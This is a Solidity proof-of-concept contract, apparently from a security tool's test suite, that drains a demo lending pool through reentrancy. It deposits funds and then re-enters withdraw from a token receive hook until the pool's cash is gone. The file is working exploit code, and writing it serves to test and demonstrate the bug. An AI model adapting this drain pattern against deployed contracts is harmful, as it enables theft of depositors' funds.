// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IDemoTokenRecipient} from "../../examples/interfaces/IDemoTokenRecipient.sol";

/// @notice The part of the demo LendingPool the PoC uses.
interface IReentrancyPoCPool {
    /// @notice Deposits `assets` from the caller.
    /// @param assets Amount.
    function deposit(uint256 assets) external;

    /// @notice Withdraws `assets` of the caller's deposit.
    /// @param assets Amount.
    function withdraw(uint256 assets) external;

    /// @notice All deposits in assets.
    /// @return The total.
    function totalDeposits() external view returns (uint256);

    /// @notice `account`'s deposit in assets.
    /// @param account The depositor.
    /// @return The deposit.
    function depositBalanceOf(address account) external view returns (uint256);
}

/// @notice The hook switch of the demo token.
interface IReentrancyPoCToken is IERC20 {
    /// @notice Turns the caller's receive hook on or off.
    /// @param registered Whether credits call the hook.
    function setReceiveHook(bool registered) external;
}

/**
 * @title LendingPoolReentrancyPoC
 * @notice Bulwark's Solidity-format proof of concept for the demo pool's reentrancy: funded with
 * some of the asset, `exploit()` deposits it, withdraws it, and re-enters `withdraw` from the
 * asset's receive hook until the pool's cash is gone; the proceeds go to the caller. Success is
 * measured by the caller's profit; on a fixed pool `exploit()` reverts.
 */
contract LendingPoolReentrancyPoC is IDemoTokenRecipient {
    IReentrancyPoCPool private immutable _pool;
    IReentrancyPoCToken private immutable _asset;
    uint256 private _chunk;
    uint256 private _remaining;

    /**
     * @notice Emitted when the exploit ran to its end.
     * @param proceeds Assets sent to the caller.
     */
    event ExploitFinished(uint256 proceeds);

    /// @notice The PoC holds none of the asset: fund it first.
    error LendingPoolReentrancyPoCUnfunded();

    /**
     * @param pool The pool to drain.
     * @param asset_ Its asset, a token with receive hooks.
     */
    constructor(IReentrancyPoCPool pool, IReentrancyPoCToken asset_) {
        _pool = pool;
        _asset = asset_;
    }

    /// @notice Runs the exploit with everything this contract holds; the caller receives the proceeds.
    function exploit() external {
        uint256 seed = _asset.balanceOf(address(this));
        if (seed == 0) revert LendingPoolReentrancyPoCUnfunded();
        _asset.approve(address(_pool), seed);
        _asset.setReceiveHook(true);
        _pool.deposit(seed);
        uint256 cash = _asset.balanceOf(address(_pool));
        uint256 deposits = _pool.totalDeposits();
        _remaining = cash < deposits ? cash : deposits;
        _chunk = _pool.depositBalanceOf(address(this));
        _withdrawNext();
        uint256 proceeds = _asset.balanceOf(address(this));
        _asset.transfer(msg.sender, proceeds);
        emit ExploitFinished(proceeds);
    }

    /// @inheritdoc IDemoTokenRecipient
    function onTokenReceived(address, address from, uint256) external {
        if (msg.sender != address(_asset) || from != address(_pool) || _remaining == 0) return;
        _withdrawNext();
    }

    /// @dev One more withdrawal of the already withdrawn deposit, capped by what is left to take.
    function _withdrawNext() private {
        uint256 amount = _chunk < _remaining ? _chunk : _remaining;
        _remaining -= amount;
        _pool.withdraw(amount);
    }
}
